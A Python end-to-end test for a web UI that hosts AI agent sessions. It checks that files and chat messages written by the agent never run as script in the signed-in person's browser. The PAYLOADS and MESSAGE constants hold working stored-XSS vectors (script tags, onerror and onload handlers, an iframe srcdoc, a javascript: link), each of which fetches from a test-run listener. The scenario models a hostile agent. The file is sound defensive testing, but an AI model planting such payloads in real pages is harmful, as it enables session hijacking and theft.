"""What the agent writes, loaded in the person's own tab: never markup, never script.

The web UI's origin is the API's, and the person's sign-in goes with every request to it, so
one route that served the agent's bytes as something a browser runs (an HTML or SVG page, a
script ``<script src>`` could name, a sniffable type) would be stored XSS with their sign-in:
``script-src 'self'`` lets any same-origin script run. Here the agent (its uid, in a real
container) writes pages, an SVG, a script and an XML file into its worktree and a message
into its transcript, each of which, if run, sets ``window.__pwned`` and fetches from a
listener the test runs (:class:`AttackSite`, on loopback). Then, in the person's real
Chromium, signed in:

* every GET route of the app's own OpenAPI document (so a route added later is tried too),
  filled with the session and ``?path=`` naming each payload, is opened directly (a
  navigation carries no sign-in bind: refused, as JSON) and fetched as the app fetches it,
  signed in: each answers JSON or plain text with ``nosniff``;
* each is named by a ``<script src>`` and a ``<link rel=stylesheet>`` on the app's page:
  none loads (``nosniff`` and a type that is not script);
* the Files tab opens each payload and the diff, the Chat tab shows the message.

Nothing ran: ``window.__pwned`` is never set and the listener is never asked.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from api.openapi_dump import build
from tests.e2e.test_webui_hidden_chars import WRITE
from tests.e2e.webui_browser import AttackSite, watched
from tests.integration.test_transcript_containment import claude_says, line, start_session
from tests.support.appliance import Appliance
from tests.support.hostile import agent_argv

pytestmark = pytest.mark.e2e

#: What runs if any of it is ever run: a global, and a request to the listener (SITE).
RUN = "window.__pwned=(window.__pwned||[]).concat(KIND);fetch('SITE/KIND').catch(()=>0)"
PAYLOADS = {
    "page.html": "<!doctype html><script>RUN</script><script src='SITE/page-src.js'></script>"
                 "<img src=x onerror=\"RUN\"><iframe srcdoc=\"<script>RUN</script>\">"
                 "</iframe>",
    "picture.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"RUN\">"
                   "<script>RUN</script></svg>",
    "run.js": "RUN;\n",
    "feed.xml": "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>"
                "<script>RUN</script></html>",
    "sniff.txt": "<html><body><script>RUN</script><img src=x onerror=\"RUN\"></body></html>",
}
MESSAGE = ("Done. <script>RUN</script><img src=x onerror=\"RUN\">\n\n"
           "<svg onload=\"RUN\"></svg> [x](javascript:RUN)\n\n```html\n<script>RUN</script>\n```")
#: What a route may answer with: data, never a document or a script.
INERT = frozenset({"application/json", "text/plain"})


def armed(text: str, kind: str, site: str) -> str:
    return text.replace("RUN", RUN).replace("KIND", json.dumps(kind)).replace("SITE", site)


def reads(name: str) -> list[str]:
    """Every GET route the app registers outside the web UI's own files, filled in for the
    session ``name``; each payload asked for by ``?path=``."""
    out = []
    for template, ops in build()["paths"].items():
        if "get" not in ops or template.startswith("/ws/") or "{rel}" in template \
                or template == "/":
            continue
        path = re.sub(r"\{ref\}", name, template)
        out += [f"{path}?path={p}" for p in PAYLOADS] if "{ref}" in template else [path]
    assert len(out) > 30 and any("/file?" in p for p in out)  # the document is the app's
    return out


def pwned(page: Any) -> Any:
    return page.evaluate("window.__pwned ?? null")


def test_nothing_the_agent_writes_runs_in_the_persons_tab(
        browser: Browser, appliance: Appliance, repo: Path) -> None:
    site = AttackSite("<!doctype html><title>theirs</title>")
    base = f"http://127.0.0.1:{site.port}"
    http = appliance.http(timeout=15)
    session, container = start_session(appliance, http, repo, "claude")
    sid, name = session["id"], session["name"]
    for rel, text in PAYLOADS.items():
        agent_argv(container, ["perl", "-CA", "-e", WRITE, f"/workspace/{rel}",
                               armed(text, rel, base)])
    claude_says(container, sid, line("assistant", armed(MESSAGE, "chat", base)))
    try:
        with watched(browser, appliance) as desk:
            page = desk.page
            # Each route opened directly, as a link the agent got the person to follow.
            answers: dict[str, tuple[int, str, str]] = {}
            with desk.allowing("Failed to load resource"):
                for path in reads(name):
                    response = page.goto(path)
                    assert response is not None, path
                    headers = response.all_headers()
                    answers[path] = (response.status, headers.get("content-type", ""),
                                     headers.get("x-content-type-options", ""))
                    assert pwned(page) is None, (path, pwned(page))
            served = {p: a for p, a in answers.items()
                      if a[1].split(";")[0].strip() not in INERT or a[2] != "nosniff"}
            assert served == {}, f"agent bytes served as something a browser runs: {served}"
            # A navigation carries the cookie but not the sign-in's bind: nothing is served.
            assert answers[f"/api/sessions/{name}/file?path=page.html"][0] == 401

            # Asked as the app asks (with the bind), each answer is still only data.
            page.goto(f"/s/{name}/info")
            expect(page.get_by_role("tab").first).to_be_visible()
            with desk.allowing("Failed to load resource"):
                # One at a time, each asked again when the host's networks changed under it.
                signed = page.evaluate("""async paths => {
                  const bind = localStorage.getItem("clauderon.bind");
                  const out = [], headers = {"x-clauderon-bind": bind};
                  for (const p of paths) for (let i = 0; ; i++) {
                    try {
                      const r = await fetch(p, {headers});
                      out.push([p, r.status, r.headers.get("content-type") || "",
                                r.headers.get("x-content-type-options") || "", await r.text()]);
                      break;
                    } catch (e) { if (i === 4) throw e; }
                  }
                  return out;
                }""", reads(name))
            served = {p: (status, kind, sniff) for p, status, kind, sniff, _ in signed
                      if kind.split(";")[0].strip() not in INERT or sniff != "nosniff"}
            assert served == {}, f"agent bytes served as something a browser runs: {served}"
            bodies = {p: (status, body) for p, status, _, _, body in signed}
            status, body = bodies[f"/api/sessions/{name}/file?path=page.html"]
            assert status == 200 and "__pwned" in body, (status, body[:300])

            # Each named by a script and a stylesheet on the app's own page.
            with desk.allowing("Refused to execute", "Refused to apply", "MIME type",
                               "Failed to load resource"):
                loaded = page.evaluate("""paths => Promise.all(paths.flatMap(p => [
                  ["script", "src"], ["link", "href"]].map(([tag, attr]) => new Promise(ok => {
                    const e = document.createElement(tag);
                    if (tag === "link") e.rel = "stylesheet";
                    e.onload = () => ok(tag + " " + p);
                    e.onerror = () => ok(null);
                    e[attr] = p;
                    document.head.append(e);
                  })))).then(all => all.filter(Boolean))""", reads(name))
            assert loaded == [], f"loaded as script or style: {loaded}"
            assert pwned(page) is None

            # The views that show the agent's bytes.
            page.goto(f"/s/{name}/files")
            viewer = page.get_by_test_id("file-viewer")
            for rel in PAYLOADS:
                page.locator(f'.tree-row[data-path="{rel}"]').click()
                expect(viewer).to_contain_text("__pwned")
                expect(viewer.locator("pre :is(script, img, svg, iframe)")).to_have_count(0)
            page.get_by_test_id("files-diff").click()
            expect(page.get_by_test_id("diff")).to_contain_text("__pwned")
            page.goto(f"/s/{name}/chat")
            msg = page.locator(".chat .messages .msg.assistant")
            expect(msg).to_contain_text("<script>")
            expect(msg.locator(".md :is(script, img, svg, iframe)")).to_have_count(0)
            assert pwned(page) is None
            assert desk.errors == [], json.dumps(desk.errors, indent=1)
        assert site.paths == [], f"the agent's script ran in the person's tab: {site.paths}"
    finally:
        site.close()
